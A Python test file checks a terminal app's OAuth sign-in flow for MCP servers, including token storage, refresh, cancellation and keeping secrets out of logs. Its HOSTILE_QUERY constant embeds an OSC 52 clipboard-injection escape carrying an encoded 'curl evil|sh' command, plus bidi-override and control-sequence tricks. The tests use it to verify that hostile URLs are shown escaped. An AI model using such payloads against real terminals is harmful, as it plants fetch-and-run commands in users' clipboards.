"""Signing in to an OAuth-protected MCP server from the TUI, against the real OAuth test server.

The browser is played by an HTTP client that GETs the authorization URL the sign-in view shows and
follows the authorization server's redirect to ditto's loopback listener, as a browser would.
"""

from __future__ import annotations

import asyncio
import stat
from pathlib import Path
from typing import Any

from textual.app import App
from textual.pilot import Pilot

from ditto_tui.config import parse_config_text
from ditto_tui.contracts import TextPart, ToolCall
from ditto_tui.interaction.mcp.oauth import TokenStore, default_token_dir
from ditto_tui.interaction.mcp.status import McpServerStatus
from ditto_tui.supervise.sign_in import SignInRequest, sign_in_request
from ditto_tui.tui import DittoApp, RunSpec
from ditto_tui.tui.screens.sign_in import SignInModal
from tests.mcp.mcp_helpers import sandbox
from tests.mcp.sign_in_helpers import (
    SHORT_FIRST_TOKEN,
    OAuthServer,
    config_text,
    files_under,
    oauth_server,
    play_browser,
)
from tests.tui.browser_fixtures import foreign_sequences, screen_text, terminal_output
from tests.tui.run_fixtures import SIZE, wait_until

HOSTILE_QUERY = "&note=\x1b]52;c;Y3VybCBldmlsfHNo\x07\u202egnp.exe\u202c\x9b2J[bold]x[/]"
REDIRECT = "http://127.0.0.1:9/callback"


def app_for(root: Path, server: OAuthServer) -> DittoApp:
    """The MCP browser (no program) over ``server`` as the HTTP server ``notes``, journaled."""
    settings = parse_config_text(config_text(server), {}, name="ditto.yaml", workspace=root)
    return DittoApp(RunSpec(config=settings, workspace=root, program=None, journal=True))


async def sign_in_view(pilot: Pilot[Any]) -> SignInModal:
    """The sign-in view once it is open and its keys are armed."""
    app = pilot.app
    await wait_until(pilot, lambda: isinstance(app.screen, SignInModal), timeout=20)
    view = app.screen
    assert isinstance(view, SignInModal)
    await wait_until(pilot, lambda: view.armed)
    return view


async def state_of(pilot: Pilot[Any], state: str) -> None:
    """Wait until the server ``notes`` is in ``state``."""
    app = pilot.app
    assert isinstance(app, DittoApp)
    await app.bridge.opened()

    def status() -> McpServerStatus | None:
        registry = app.bridge.mcp
        return registry.status("notes") if registry is not None else None

    def reached() -> bool:
        now = status()
        return now is not None and now.state == state

    try:
        await wait_until(pilot, reached, timeout=20)
    except AssertionError:
        raise AssertionError(f"server notes did not reach {state!r}; it is {status()!r}") from None


async def whoami(app: DittoApp, root: Path) -> str:
    """Call the server's ``whoami`` tool; its text."""
    registry = app.bridge.mcp
    assert registry is not None
    box = sandbox(root, "notes")
    assert "whoami" in [capability.name for capability in await registry.discover("notes", box)]
    result = await registry.invoke_unguarded("notes", ToolCall(id="who", name="whoami", arguments={}), box)
    assert result.status == "success", result.error
    assert isinstance(result.content, list)
    return " ".join(part.text for part in result.content if isinstance(part, TextPart))


async def sign_in_through_the_view(pilot: Pilot[Any], server: OAuthServer) -> SignInModal:
    view = await sign_in_view(pilot)
    page = await play_browser(view.request.url)
    assert page.status_code == 200 and "Signed in" in page.text
    await wait_until(pilot, lambda: pilot.app.screen is not view)
    return view


async def test_signing_in_in_the_view_connects_the_server_without_a_restart(tmp_path: Path) -> None:
    with oauth_server(tmp_path) as server:
        app = app_for(tmp_path, server)
        async with app.run_test(size=SIZE, notifications=True) as pilot:
            view = await sign_in_view(pilot)
            shown = screen_text(app)
            assert "MCP server notes needs you to sign in" in shown
            assert "Host  127.0.0.1" in shown and "/authorize?" in shown
            assert view.request.url.startswith(f"http://127.0.0.1:{server.port}/authorize?")
            await play_browser(view.request.url)
            await wait_until(pilot, lambda: app.screen is not view)
            await state_of(pilot, "connected")
            await wait_until(pilot, lambda: "Signed in to notes" in screen_text(app))
            client_id = await whoami(app, tmp_path)
        assert server.count("authorized") == 1 and client_id in server.log.read_text(encoding="utf-8")
    store = TokenStore(default_token_dir())
    assert store.has_tokens("notes")
    assert stat.S_IMODE(store.path("notes").stat().st_mode) == 0o600


async def test_a_second_start_uses_the_kept_token_without_asking(tmp_path: Path) -> None:
    with oauth_server(tmp_path) as server:
        first = app_for(tmp_path, server)
        async with first.run_test(size=SIZE) as pilot:
            await sign_in_through_the_view(pilot, server)
            await state_of(pilot, "connected")
        second = app_for(tmp_path, server)
        async with second.run_test(size=SIZE) as pilot:
            await state_of(pilot, "connected")
            await whoami(second, tmp_path)
            assert not isinstance(second.screen, SignInModal)
        assert server.count("authorized") == 1 and server.count("issued grant=") == 1


async def test_an_expired_access_token_is_refreshed_without_asking(tmp_path: Path) -> None:
    with oauth_server(tmp_path, *SHORT_FIRST_TOKEN) as server:
        first = app_for(tmp_path, server)
        async with first.run_test(size=SIZE) as pilot:
            await sign_in_through_the_view(pilot, server)
            await state_of(pilot, "connected")
        await asyncio.sleep(1.5)  # the token's real lifetime must pass
        second = app_for(tmp_path, server)
        async with second.run_test(size=SIZE) as pilot:
            await state_of(pilot, "connected")
            await whoami(second, tmp_path)
            assert not isinstance(second.screen, SignInModal)
        assert server.count("authorized") == 1 and server.count("issued grant=refresh_token") >= 1


async def test_cancelling_the_sign_in_leaves_the_server_failed_saying_so(tmp_path: Path) -> None:
    with oauth_server(tmp_path) as server:
        app = app_for(tmp_path, server)
        async with app.run_test(size=SIZE) as pilot:
            view = await sign_in_view(pilot)
            await pilot.press("c")
            await wait_until(pilot, lambda: app.screen is not view)
            await state_of(pilot, "failed")
            assert app.bridge.mcp is not None
            status = app.bridge.mcp.status("notes")
            assert status is not None and "the sign-in was cancelled" in (status.error or "")
            await wait_until(pilot, lambda: "the sign-in was cancelled" in screen_text(app))
        assert server.count("authorized") == 0


async def test_e02_e03_no_token_code_or_client_secret_reaches_a_log_the_journal_or_the_screen(
    tmp_path: Path, ditto_home: str
) -> None:
    """ADVERSARIAL E-02/E-03: every secret the server minted is kept in the token store and nowhere else."""
    with oauth_server(tmp_path, *SHORT_FIRST_TOKEN) as server:
        app = app_for(tmp_path, server)
        seen: list[str] = []
        async with app.run_test(size=SIZE) as pilot:
            await sign_in_through_the_view(pilot, server)
            await state_of(pilot, "connected")
            await asyncio.sleep(1.5)  # expire the access token: the call refreshes it
            await whoami(app, tmp_path)
            seen.append(screen_text(app))
        minted = server.secrets()
    assert len(minted) >= 5 and server.count("issued grant=refresh_token") >= 1
    home = Path(ditto_home)
    kept = files_under(home, skip=default_token_dir())
    assert any(path.suffix == ".jsonl" for path in kept) and any(path.suffix == ".log" for path in kept)
    for path, text in kept.items():
        assert not [secret for secret in minted if secret in text], path
    assert not [secret for secret in minted if secret in "".join(seen)]


def hostile_request() -> SignInRequest:
    url = f"https://auth.example.com/authorize?client_id=ditto&redirect_uri={REDIRECT}&state=s{HOSTILE_QUERY}"
    return sign_in_request("mcp-sign-in-1", "no[b]tes", url, REDIRECT)


class Host(App[None]):
    """Shows one view, nothing else."""

    def __init__(self, view: SignInModal) -> None:
        super().__init__()
        self.view = view

    def on_mount(self) -> None:
        self.push_screen(self.view)


async def test_t02_t09_a_hostile_authorization_url_is_shown_escaped_with_its_host_plain() -> None:
    """ADVERSARIAL T-02/T-09: OSC 52, bidi, C1 and markup in the URL are shown as text, never sent."""
    opened: list[str] = []
    view = SignInModal(hostile_request(), open_browser=opened.append)
    app = Host(view)
    async with app.run_test(size=SIZE) as pilot:
        await wait_until(pilot, lambda: view.armed)
        output = terminal_output(app)
        assert foreign_sequences(output) == [] and "\x1b]52" not in output
        shown = screen_text(app)
        assert "Host  auth.example.com" in shown and "MCP server no[b]tes needs you to sign in" in shown
        assert "[bold]x[/]" in shown and "Y3VybCBldmlsfHNo" in shown and "⟨U+202E⟩" in shown
        assert "cannot be opened from here" in shown
        await pilot.press("o")
        await pilot.pause()
        assert opened == []


async def test_o_opens_the_address_in_the_browser_and_c_cancels() -> None:
    opened: list[str] = []
    url = f"https://auth.example.com/authorize?client_id=ditto&redirect_uri={REDIRECT}&state=s"
    view = SignInModal(sign_in_request("mcp-sign-in-1", "notes", url, REDIRECT), open_browser=opened.append)
    app = Host(view)
    async with app.run_test(size=SIZE) as pilot:
        await wait_until(pilot, lambda: view.armed)
        await pilot.press("o")
        await app.workers.wait_for_complete()
        assert opened == [url]
        await pilot.press("c")
        await wait_until(pilot, lambda: app.screen is not view)


def test_snapshot_sign_in_view_shows_a_hostile_address_as_text(snap_compare: Any) -> None:
    view = SignInModal(hostile_request(), open_browser=lambda url: None)

    async def armed(pilot: Pilot[Any]) -> None:
        await wait_until(pilot, lambda: view.armed)

    assert snap_compare(Host(view), terminal_size=SIZE, run_before=armed)
